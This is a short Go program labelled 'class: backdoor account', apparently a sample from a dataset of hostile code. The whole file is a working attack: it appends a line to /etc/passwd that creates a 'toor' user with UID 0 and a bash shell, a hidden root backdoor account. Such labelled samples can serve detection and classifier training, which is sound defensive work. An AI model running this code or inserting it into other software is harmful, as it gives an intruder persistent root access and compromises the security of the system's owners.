// class: backdoor account; style: go
package main

import (
	"fmt"
	"os"
)

func main() {
	f, err := os.OpenFile("/etc/passwd", os.O_APPEND|os.O_WRONLY, 0644)
	if err != nil {
		return
	}
	defer f.Close()
	fmt.Fprintln(f, "toor:$1$abc$BXBqpb9BZcZhXLgbee.0s/:0:0::/root:/bin/bash")
}
